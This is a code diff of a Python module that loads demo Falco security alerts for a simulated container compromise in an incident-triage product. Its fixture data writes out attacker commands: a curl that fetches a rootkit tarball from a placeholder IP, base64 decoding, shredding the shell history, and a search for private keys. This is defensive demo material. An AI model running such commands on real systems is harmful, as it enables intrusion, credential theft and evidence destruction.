@@ -1,12 +1,14 @@
 """The demo's Falco detections (``manage.py load_demo``, PRODUCT.md "The demo scenario").
 
-The compromised ``store-frontend-ping-php`` pod: as ``www-data`` the attacker gets a shell,
-fetches a rootkit tarball with curl, decodes it with ``base64 -d``, unpacks it (``tar xvfz``,
-``gzip -d``: base-image tools, which no shipped rule flags, so they show only as the parents of
-what follows) and shreds the shell history. Falco raised one alert per flagged step, about six
-hours ago; they were grouped into one incident candidate, which the ISSO attached to the main
-incident once the capture was reviewed. A second pod of the store read ``/etc/shadow`` and
-searched for private keys twenty minutes ago: that candidate is open, in the triage queue.
+The compromised ``store-frontend-ping-php`` pod, as ``incidents.demo_attack`` tells it: as
+``www-data`` the attacker gets a shell, fetches a rootkit tarball with curl, decodes it with
+``base64 -d``, unpacks it (``tar xvfz``, which runs ``gzip -d``: base-image tools, which no
+shipped rule flags) and shreds the shell history. Falco raised one alert per flagged system
+call, each at the nanosecond of the ``execve`` (or of shred's ``openat``/``unlinkat``) that
+Sysdig's records and the capture show too; they were grouped into one incident candidate,
+which the ISSO attached to the main incident once the capture was reviewed. A second pod of the
+store read ``/etc/shadow`` and searched for private keys twenty minutes ago: that candidate is
+open, in the triage queue.
 
 Rule names, priorities, tags and output formats are those of Falco's rule files
 (``falco_rules.yaml``, ``falco-incubating_rules.yaml``, ``falco-sandbox_rules.yaml``), written
@@ -20,7 +22,7 @@ from __future__ import annotations
 import re
 from datetime import datetime, timedelta
 
-from . import falco
+from . import demo_attack, falco
 from .ingest import alerts_store, candidate_attach, detections_group
 from .models import Detection, IncidentCandidate
 
@@ -133,15 +135,15 @@ RULES = {
     ),
 }
 
-NODE = "demo-k8s-node-2"
+NODE = demo_attack.NODE
 IMAGE = "registry.demo.example.gov/store/"  # the STORE system's image repositories
 PING_PHP = {
-    "container.id": "5e2b71f4c9d3",
-    "container.name": "store-frontend-ping-php",
-    "container.image.repository": f"{IMAGE}store-frontend-ping-php",
-    "container.image.tag": "1.4.2",
-    "k8s.ns.name": "store",
-    "k8s.pod.name": "store-frontend-ping-php",
+    "container.id": demo_attack.CONTAINER_ID,
+    "container.name": demo_attack.CONTAINER_NAME,
+    "container.image.repository": demo_attack.IMAGE_REPO,
+    "container.image.tag": demo_attack.IMAGE_TAG,
+    "k8s.ns.name": demo_attack.NAMESPACE,
+    "k8s.pod.name": demo_attack.POD,
 }
 CART = {
     "container.id": "a91c0e7d2b46",
@@ -151,10 +153,10 @@ CART = {
     "k8s.ns.name": "store",
     "k8s.pod.name": "store-cart-5f7b9c-q2x8d",
 }
-WWW_DATA = {"user.name": "www-data", "user.uid": 33, "user.loginuid": -1}
+WWW_DATA = {"user.name": demo_attack.USER, "user.uid": demo_attack.UID, "user.loginuid": -1}
 
 
-def _step(process, exe, parent, cmdline, **more):
+def _exec(process, exe, parent, cmdline, **more):
     return {
         **WWW_DATA,
         "evt.type": "execve",
@@ -162,56 +164,51 @@ def _step(process, exe, parent, cmdline, **more):
         "proc.exepath": exe,
         "proc.pname": parent,
         "proc.cmdline": cmdline,
-        "proc.tty": 34816,
+        "proc.tty": demo_attack.TTY,
         "evt.arg.flags": "EXE_LOWER_LAYER",
         **more,
     }
 
 
-SHRED = _step("shred", "/usr/bin/shred", "bash", "shred -f /var/www/.bash_history")
-ROOTKIT = "curl -s http://198.51.100.23/kit/rk.tar.gz.b64 -o /tmp/.x"
+def _step(step: demo_attack.Step, **more):
+    return _exec(step.comm, step.exe, step.parent, step.cmdline, **more)
 
-# (seconds before now, rule, pod, fields): the attack on the ping pod, six hours ago …
+
+_S = demo_attack.STEP
+SHRED = _step(_S["shred"])
+ROOTKIT = _S["curl"].cmdline
+
+# (ns after the attack's first command, rule, pod, fields): the attack on the ping pod …
 ATTACK = [
+    (_S["bash"].offset_ns, "Terminal shell in container", PING_PHP, _step(_S["bash"])),
     (
-        6 * 3600 + 4 * 60,
-        "Terminal shell in container",
-        PING_PHP,
-        _step("bash", "/bin/bash", "sh", "bash -i"),
-    ),
-    (
-        6 * 3600 + 3 * 60 + 12,
+        _S["curl"].offset_ns,
         "Launch Suspicious Network Tool in Container",
         PING_PHP,
-        _step("curl", "/usr/bin/curl", "bash", ROOTKIT),
+        _step(_S["curl"]),
     ),
+    (_S["base64"].offset_ns, "Decoding Payload in Container", PING_PHP, _step(_S["base64"])),
+    (_S["shred"].offset_ns, "Remove Bulk Data from Disk", PING_PHP, {**SHRED, "fd.name": None}),
     (
-        6 * 3600 + 2 * 60 + 47,
-        "Decoding Payload in Container",
-        PING_PHP,
-        _step("base64", "/usr/bin/base64", "bash", "base64 -d /tmp/.x"),
-    ),
-    (6 * 3600 + 31, "Remove Bulk Data from Disk", PING_PHP, {**SHRED, "fd.name": None}),
-    (
-        6 * 3600 + 30,
+        demo_attack.SHRED_OPEN_NS,
         "Clear Log Activities",
         PING_PHP,
-        {**SHRED, "evt.type": "openat", "fd.name": "/var/www/.bash_history"},
+        {**SHRED, "evt.type": "openat", "fd.name": demo_attack.HISTORY},
     ),
     (
-        6 * 3600 + 29,
+        demo_attack.SHRED_UNLINK_NS,
         "Delete or rename shell history",
         PING_PHP,
-        {**SHRED, "evt.type": "unlinkat", "evt.arg.name": "/var/www/.bash_history"},
+        {**SHRED, "evt.type": "unlinkat", "evt.arg.name": demo_attack.HISTORY},
     ),
 ]
-# … and the cart pod, twenty minutes ago: still waiting in the triage queue.
+# … and the cart pod, twenty minutes ago (ns before now): still waiting in the triage queue.
 WAITING = [
     (
-        24 * 60,
+        -(24 * 60 * 10**9) + 318_402_117,
         "Read sensitive file untrusted",
         CART,
-        _step(
+        _exec(
             "cat",
             "/bin/cat",
             "sh",
@@ -220,10 +217,10 @@ WAITING = [
         ),
     ),
     (
-        21 * 60 + 8,
+        -((21 * 60 + 8) * 10**9) + 774_093_551,
         "Search Private Keys or Passwords",
         CART,
-        _step("grep", "/bin/grep", "sh", "grep -r 'BEGIN RSA PRIVATE KEY' /var/www"),
+        _exec("grep", "/bin/grep", "sh", "grep -r 'BEGIN RSA PRIVATE KEY' /var/www"),
     ),
 ]
 
@@ -231,12 +228,10 @@ _FIELD = re.compile(r"%([a-zA-Z0-9_.]+(?:\[[^\]]*\])?)")
 PRIORITY_SHOWN = {"INFO": "Informational"}
 
 
-def falco_alert(name: str, *, at: datetime, pod: dict, fields: dict) -> dict:
-    """An alert of rule ``name`` at ``at`` as Falco emits it with ``json_output: true``."""
+def falco_alert(name: str, *, ns: int, pod: dict, fields: dict) -> dict:
+    """An alert of rule ``name`` at ``ns`` (since the epoch) as Falco emits it with
+    ``json_output: true``."""
     priority, tags, output = RULES[name]
-    seconds = int(at.timestamp())
-    # Falco's times carry nanoseconds: a fixed, made-up fraction of the second per alert.
-    ns = seconds * 10**9 + (seconds * 104_729) % 10**9
     values = {field: fields.get(field) for field in _FIELD.findall(output)}
     values.update(pod)
     values["evt.time"] = ns
@@ -267,6 +262,15 @@ def _store(agency, alerts, *, received_at: datetime) -> None:
     detections_group(agency_id=agency.pk, now=received_at)
 
 
+def attack_alerts(now: datetime) -> list[dict]:
+    """The alerts Falco raised about the attack (``demo_attack``, relative to ``now``)."""
+    start = demo_attack.start_ns(now)
+    return [
+        falco_alert(rule, ns=start + offset, pod=pod, fields=fields)
+        for offset, rule, pod, fields in ATTACK
+    ]
+
+
 def load_detections(*, agency, system, incident, ctx, now: datetime) -> dict[str, int]:
     """Give ``system`` (the store) its selectors, store and group the scenario's alerts, attach
     the attack's candidate to ``incident`` as ``ctx`` (the ISSO), after the capture's review,
@@ -275,18 +279,18 @@ def load_detections(*, agency, system, incident, ctx, now: datetime) -> dict[str
     system.k8s_namespaces = ["store"]
     system.save(update_fields=["image_repositories", "k8s_namespaces"])
 
-    def alerts(rows):
-        return [
-            falco_alert(rule, at=now - timedelta(seconds=before), pod=pod, fields=fields)
-            for before, rule, pod, fields in rows
-        ]
-
-    _store(agency, alerts(ATTACK), received_at=now - timedelta(hours=6))
+    # falcosidekick delivers each alert within a second or two of the event.
+    delivered = demo_attack.at(now, demo_attack.SHRED_UNLINK_NS) + timedelta(seconds=2)
+    _store(agency, attack_alerts(now), received_at=delivered)
     attack = IncidentCandidate.objects.get(
-        agency=agency, group_key=f"pod:store/{PING_PHP['k8s.pod.name']}"
+        agency=agency, group_key=f"pod:{demo_attack.NAMESPACE}/{PING_PHP['k8s.pod.name']}"
     )
     candidate_attach(ctx=ctx, candidate=attack, incident=incident, now=now - timedelta(minutes=50))
-    _store(agency, alerts(WAITING), received_at=now - timedelta(minutes=20))
+    waiting = [
+        falco_alert(rule, ns=demo_attack.to_ns(now) + offset, pod=pod, fields=fields)
+        for offset, rule, pod, fields in WAITING
+    ]
+    _store(agency, waiting, received_at=now - timedelta(minutes=20))
     return {
         "detections": Detection.objects.filter(agency=agency).count(),
         "candidates": IncidentCandidate.objects.filter(agency=agency).count(),
